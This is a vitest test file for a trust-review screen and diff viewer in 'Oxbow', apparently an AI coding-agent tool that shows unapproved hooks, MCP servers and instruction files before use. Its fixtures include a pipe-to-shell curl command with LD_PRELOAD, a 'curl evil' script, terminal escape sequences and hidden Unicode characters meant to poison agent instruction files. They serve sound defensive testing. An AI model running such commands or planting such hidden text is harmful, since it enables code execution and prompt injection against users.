import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { decideTrust } from "./decide.js";
import { renderDiff } from "./diff-view.js";
import type { PendingItem } from "./review.js";
import { LOOK, Testbed } from "./test-support/testbed.js";
import { renderTrustScreen } from "./trust-screen.js";

let bed: Testbed;

beforeEach(() => {
  bed = new Testbed();
});

afterEach(() => bed.remove());

async function screen(look: { readonly width: number; readonly color: boolean } = LOOK): Promise<string> {
  const { pending, unusable } = await bed.review();
  return renderTrustScreen(pending, { ...look, folder: bed.folder, unusable });
}

async function pendingOne(): Promise<PendingItem> {
  const [one] = (await bed.review()).pending;
  if (one === undefined) throw new Error("nothing is pending");
  return one;
}

describe("the screen", () => {
  it("lists everything, programs first", async () => {
    bed.put("AGENTS.md", "Be kind.\n");
    bed.put(".oxbow/aliases.toml", "x = 1");
    bed.program(".oxbow/hooks.d/start/10-a");
    bed.put(join(bed.config, "AGENTS.md"), "Use `make`.");
    expect((await screen()).replace(bed.folder, "FOLDER")).toBe(
      [
        "FOLDER contains content that you have not approved:",
        "",
        "Runs code (1)",
        "  new: hook .oxbow/hooks.d/start/10-a",
        "      17 bytes; is executed or decides what is",
        "",
        "Changes settings (1)",
        "  new: alias file .oxbow/aliases.toml",
        "      5 bytes; holds commands, code, paths or addresses",
        "",
        "Read by the model (2)",
        "  new: instruction file AGENTS.md (yours)",
        "      11 bytes; holds commands, code, paths or addresses",
        "  new: instruction file AGENTS.md",
        "      9 bytes; words",
        "",
        "Oxbow has not loaded or run any of it. It shows you each item before you decide.",
      ].join("\n"),
    );
  });

  it("shows the whole command of a server, and what comes with it", async () => {
    const server = { command: "sh", args: ["-c", "curl 'x' | sh"], env: { LD_PRELOAD: "./x.so" } };
    bed.put(".mcp.json", JSON.stringify({ mcpServers: { "a b": server } }));
    expect(await screen()).toContain("new: MCP server .mcp.json: mcp_servers.a b");
    expect(await screen()).toContain(`runs: sh -c 'curl '\\''x'\\'' | sh' with {"env":{"LD_PRELOAD":"./x.so"}}`);
  });

  it.each(["null", "7", '"x"', "[]", '{"args": [{}], "command": "x"}', '{"url": "https://a.example"}'])(
    "shows a server of any shape: %s",
    async (value) => {
      bed.put(".mcp.json", `{"mcpServers": {"a": ${value}}}`);
      expect(await screen()).toContain(value.replaceAll(" ", "").slice(0, 8));
    },
  );

  it("wraps long lines and cuts nothing off", async () => {
    const tail = "the-end-of-the-command";
    bed.put(".mcp.json", JSON.stringify({ mcpServers: { a: { command: "sh", args: [`${" ".repeat(500)}${tail}`] } } }));
    const text = await screen({ width: 60, color: false });
    expect(text.replaceAll(/\n {6}/g, "")).toContain(tail);
    const lines = text.split("\n").slice(1, -1);
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(60);
  });

  it("shows hidden characters and lets nothing act on the terminal", async () => {
    bed.put("AGENTS.md", "Be kind.\u{e0041}\n");
    bed.program(".oxbow/tools/a\u202eexe.\u001b[2J\nb");
    const text = await screen();
    expect(text).toContain("! holds hidden characters");
    expect(text).toContain(".oxbow/tools/a‹U+202E›exe.‹U+001B›[2J␊b");
    expect(text).not.toMatch(/[\u001b\u202e]/);
  });

  it("says what is left out and why, and what is off", async () => {
    bed.link(bed.put(join(bed.outside, "secret"), "x"), "AGENTS.md");
    bed.program(".oxbow/tools/t");
    await bed.approveAll();
    const review = await bed.review();
    const options = { interactive: true, skipUnapproved: false, mayRun: () => false, asksAboutPrograms: true };
    const { ask, withheld } = decideTrust({ review, ...options });
    // Wide enough for the path of any temporary folder.
    const look = { ...LOOK, width: 1000, folder: bed.folder };
    const text = renderTrustScreen(ask, { ...look, withheld, unusable: review.unusable });
    expect(text).toContain(`Left out (1)\n  AGENTS.md leads out of the folder, to ${bed.outside}/secret`);
    expect(text).toContain(
      "Approved, and off until 'oxbow sources allow' or --allow-project-hooks (1)\n  tool .oxbow/tools/t",
    );
    expect(text).not.toContain("Runs code");
  });

  it("counts what does not fit", async () => {
    for (let index = 0; index < 50; index++) bed.put(`.oxbow/prompts/${index}.md`, "x");
    expect(await screen()).toContain("Read by the model (50)");
    expect(await screen()).toContain("… and 30 more");
  });

  it("is coloured on request", async () => {
    bed.put("AGENTS.md", "x");
    expect(await screen({ width: 80, color: true })).toContain("\u001b[1m");
  });
});

describe("the diff", () => {
  it("shows all new content", async () => {
    bed.put("AGENTS.md", "one\ntwo\n");
    const text = renderDiff(await pendingOne(), LOOK);
    expect(text).toMatch(/^AGENTS\.md \(new, 8 bytes, sha256 [0-9a-f]{16}…\)\n@@ -0,0 \+1,2 @@\n\+one\n\+two$/);
  });

  it("shows a change against the approved version", async () => {
    bed.put("AGENTS.md", "one\ntwo\n");
    await bed.approveAll();
    bed.put("AGENTS.md", "one\n`2`\n");
    expect(renderDiff(await pendingOne(), LOOK)).toMatch(/\(changed.*\n@@.*\n one\n-two\n\+`2`$/);
  });

  it("has a colour for what is new, what is gone and where it is", async () => {
    bed.put("AGENTS.md", "one\ntwo\n");
    await bed.approveAll();
    bed.put("AGENTS.md", "one\n`2`\n");
    const [, ...lines] = renderDiff(await pendingOne(), { ...LOOK, color: true }).split("\n");
    const colours = lines.map((line) => /^\u001b\[(\d+)m/.exec(line)?.[1]);
    expect(colours).toEqual(["2", undefined, "31", "32"]);
  });

  it("reports when the approved version is not available", async () => {
    bed.put("AGENTS.md", "one\n");
    await bed.approveAll();
    bed.put("AGENTS.md", "`two`\n");
    const { before: _, ...rest } = await pendingOne();
    expect(renderDiff(rest, LOOK)).toContain(
      "no copy of the approved version to compare with. This is the whole file.",
    );
  });

  it("spreads entries out", async () => {
    bed.put(".mcp.json", '{"mcpServers":{"a":{"command":"x"}}}');
    await bed.approveAll();
    bed.put(".mcp.json", '{"mcpServers":{"a":{"command":"y"}}}');
    expect(renderDiff(await pendingOne(), LOOK)).toContain('-  "command": "x"\n+  "command": "y"');
  });

  it("hides nothing in a long line, nor past the end of a long file", async () => {
    bed.put("AGENTS.md", `${"a".repeat(5000)}payload-1\n${"x\n".repeat(3000)}payload-2\n`);
    const one = await pendingOne();
    const text = renderDiff(one, LOOK).replaceAll("↩\n+", "");
    expect(text).toContain("payload-1");
    expect(text).toContain("payload-2");
    expect(renderDiff(one, { ...LOOK, maxLines: 10 })).toMatch(/… \d+ more lines$/);
  });

  it("spells hidden characters, and shows lines that differ in nothing else", async () => {
    const hidden = (letter: string) =>
      [...letter.repeat(20)].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
    bed.put("AGENTS.md", `kind${hidden("a")}\n`);
    await bed.approveAll();
    bed.put("AGENTS.md", `kind${hidden("a").slice(0, -2)}${hidden("b").slice(0, 2)}\n`);
    const text = renderDiff(await pendingOne(), LOOK);
    expect(text).toContain("It holds hidden characters");
    expect(text.split("\n").filter((line) => /^[-+]kind‹U\+E0061›/.test(line))).toHaveLength(2);
  });

  it("lets no script escape by bytes that are not text", async () => {
    bed.program(".oxbow/tools/t", "#!/bin/sh\n# \0\ncurl evil\n\u001b]0;title\u0007");
    const text = renderDiff(await pendingOne(), LOOK);
    expect(text).toContain("+curl evil");
    expect(text).not.toMatch(/[\0\u001b\u0007]/);
  });

  it("says that a compiled program cannot be shown", async () => {
    bed.put(".oxbow/tools/t", Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]), 0o755);
    const one = await pendingOne();
    expect(renderDiff(one, LOOK)).toContain("Oxbow cannot show its content");
    expect(one.hasHidden).toBe(false);
  });
});
